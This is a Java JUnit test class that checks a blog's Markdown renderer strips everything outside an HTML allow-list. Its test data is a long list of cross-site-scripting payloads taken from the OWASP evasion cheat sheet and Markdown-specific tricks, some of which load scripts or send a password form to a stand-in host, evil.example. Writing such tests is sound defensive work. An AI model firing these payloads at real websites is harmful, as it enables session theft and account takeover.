package dev.quartet.blog.markdown;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/** After the OWASP XSS Filter Evasion Cheat Sheet, and what Markdown adds to it. */
class AttackTests {

    /** Written a second time, on purpose: what is allowed by mistake must not be expected by the same mistake. */
    private static final String ALLOWED_ELEMENTS = "p|br|hr|h[2-6]|em|strong|b|i|s|del|sub|sup|kbd|code|pre|blockquote"
            + "|ul|ol|li|table|thead|tbody|tr|th|td|a";

    private static final String ALLOWED_ATTRIBUTES = "a@href=(https?://|mailto:)\\S+|a@rel=nofollow noopener|a@title=.*"
            + "|code@class=language-[\\w+#.-]+|ol@start=\\d+|t[hd]@align=(left|center|right)|pre@tabindex=0";

    private final Markdown markdown = new Markdown();

    @ParameterizedTest
    @MethodSource("attacks")
    void nothingButTheAllowListReachesAPage(String attack) {
        Parsed page = Parsed.of(markdown.render(attack).html());

        assertThat(page.elementNames()).allMatch(name -> name.matches(ALLOWED_ELEMENTS));
        assertThat(page.attributes()).allMatch(attribute -> attribute.matches("(?s)" + ALLOWED_ATTRIBUTES));
    }

    @ParameterizedTest
    @MethodSource("attacks")
    void nothingButTheAllowListReachesAPageFromBetweenHarmlessWords(String attack) {
        nothingButTheAllowListReachesAPage("Harmless *words* " + attack + " and **more** of `them`.");
        nothingButTheAllowListReachesAPage("> 1. quoted\n>    " + attack + "\n\n| a |\n|---|\n| " + attack + " |\n");
    }

    @Test
    void whatIsLeftOfAnAttackIsItsText() {
        assertThat(new AllowList().sanitise("<script>alert(1)</script><p onclick='alert(1)'>left</p>"))
                .isEqualTo("<p>left</p>");
    }

    @Test
    void aScriptInACodeSpanIsShownAsText() {
        Parsed page = Parsed.of(markdown.render("No `<script>alert(\"hello\")</script>` here.").html());

        assertThat(page.text()).isEqualTo("No <script>alert(\"hello\")</script> here.\n");
        assertThat(page.elementNames()).containsExactly("p", "code");
    }

    @Test
    void aHarmfulLinkIsLeftAsItsText() {
        Parsed page = Parsed.of(markdown.render("[click me](javascript:alert(1))").html());

        assertThat(page.text()).isEqualTo("click me\n");
        assertThat(page.elementNames()).containsExactly("p");
    }

    static Stream<String> attacks() {
        return Stream.of(
                "<script>alert(1)</script>",
                "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
                "<scr<script>ipt>alert(1)</scr</script>ipt>",
                "<script\u0000>alert(1)</script\u0000>",
                "<script/x>alert(1)</script>",
                "<script>alert(1)",
                "<<script>alert(1);//<</script>",
                "</p><script>alert(1)</script><p>",
                "<!--<script>-->alert(1)<!--</script>-->",
                "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
                "<![CDATA[<script>alert(1)</script>]]>",
                "<?xml version='1.0'?><script>alert(1)</script>",
                "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
                "<img src=x onerror=alert(1)>",
                "<img src=\"javascript:alert(1)\">",
                "<img/src=`x`onerror=alert(1)>",
                "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\">",
                "<p onclick=alert(1)>p</p>",
                "<p/onmouseover=alert(1)>p</p>",
                "<b onfocus=alert(1) tabindex=1 autofocus>b</b>",
                "<a href=\"https://ok.example\" onclick=\"alert(1)\">a</a>",
                "<a href=\"javascript:alert(1)\">a</a>",
                "<a href=\"JaVaScRiPt:alert(1)\">a</a>",
                "<a href=\" javascript:alert(1)\">a</a>",
                "<a href=\"java\tscript:alert(1)\">a</a>",
                "<a href=\"java&#9;script:alert(1)\">a</a>",
                "<a href=\"java&#x0A;script:alert(1)\">a</a>",
                "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">a</a>",
                "<a href=\"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)\">a</a>",
                "<a href=\"javascript&colon;alert(1)\">a</a>",
                "<a href=\"\u0001javascript:alert(1)\">a</a>",
                "<a href=\"vbscript:msgbox(1)\">a</a>",
                "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">a</a>",
                "<a href=\"file:///etc/passwd\">a</a>",
                "<a href=\"//evil.example\">a</a>",
                "<a href=\"/user/people\" target=_blank ping=https://evil.example id=x name=y>a</a>",
                "<a href=\"https://ok.example\" style=\"position:fixed;inset:0\" rel=opener>a</a>",
                "<svg><script>alert(1)</script></svg>",
                "<svg/onload=alert(1)>",
                "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
                "<svg><style><img src=x onerror=alert(1)></style></svg>",
                "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
                "<math href=\"javascript:alert(1)\">m</math>",
                "<style>@import 'https://evil.example/x.css';</style>",
                "<p style=\"background:url(javascript:alert(1))\">p</p>",
                "<link rel=stylesheet href=https://evil.example/x.css>",
                "<iframe src=https://evil.example></iframe>",
                "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
                "<object data=\"data:text/html,<script>alert(1)</script>\"></object>",
                "<embed src=https://evil.example/x.swf>",
                "<base href=https://evil.example/>",
                "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
                "<form action=https://evil.example><input name=password><button formaction=javascript:alert(1)>b</button></form>",
                "<video><source onerror=alert(1)></video>",
                "<audio src=x onerror=alert(1)></audio>",
                "<details open ontoggle=alert(1)>d</details>",
                "<body onload=alert(1)>",
                "<html><head><title>t</title></head></html>",
                "<template><script>alert(1)</script></template>",
                "<textarea></textarea><script>alert(1)</script>",
                "<title></title><script>alert(1)</script></title>",
                "<plaintext><script>alert(1)</script>",
                "<xmp><script>alert(1)</script></xmp>",
                "<h1 id=content class=alert>second title</h1>",
                "<code class=\"language-java btn btn-danger\">c</code>",
                "<pre class=x tabindex=7 onclick=alert(1)>p</pre>",
                "<table background=\"javascript:alert(1)\"><tr><td align=\"javascript:alert(1)\">t</td></tr></table>",
                "[a](javascript:alert(1))",
                "[a](JAVASCRIPT:alert(1))",
                "[a](<javascript:alert(1)>)",
                "[a](<java\tscript:alert(1)>)",
                "[a](javascript&colon;alert&lpar;1&rpar;)",
                "[a](&#106;avascript:alert(1))",
                "[a](java&Tab;script:alert(1))",
                "[a](\\javascript:alert(1))",
                "[a](data:text/html,<script>alert(1)</script>)",
                "[a](vbscript:alert(1))",
                "[a](https://ok.example \"t' onclick='alert(1)\")",
                "[a](https://ok.example '\" onclick=\"alert(1)')",
                "[a](https://ok.example/\"onclick=\"alert(1))",
                "[a][r]\n\n[r]: javascript:alert(1)",
                "[a][r]\n\n[r]: https://ok.example \"><script>alert(1)</script>\"",
                "<javascript:alert(1)>",
                "![a](javascript:alert(1))",
                "![a](https://ok.example/x.png\"onerror=\"alert(1))",
                "![\"><script>alert(1)</script>](https://ok.example/x.png)",
                "![a](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
                "[![a](javascript:alert(1))](javascript:alert(1))",
                "```java\" onclick=\"alert(1)\nx\n```",
                "```\"><script>alert(1)</script>\nx\n```",
                "```\n</code></pre><script>alert(1)</script>\n```",
                "`</code><script>alert(1)</script>`",
                "**<script>**alert(1)**</script>**",
                "<b>**<script>alert(1)</script></b>**",
                "<a href='*javascript:alert(1)*'>a</a>",
                "<div\n\n*text*\n\nonclick=alert(1)>",
                "| a | <script> |\n|---|---|\n| alert(1) | </script> |",
                "<scr\\ipt>alert(1)</scr\\ipt>",
                "&lt;script&gt;alert(1)&lt;/script&gt;",
                "\\<script>alert(1)\\</script>",
                "${7*7} {{7*7}} <%= 7*7 %> @{x}",
                "\uD83D<script>alert(1)</script>",
                "<ſcript>alert(1)</ſcript>",
                "＜script＞alert(1)＜/script＞");
    }
}
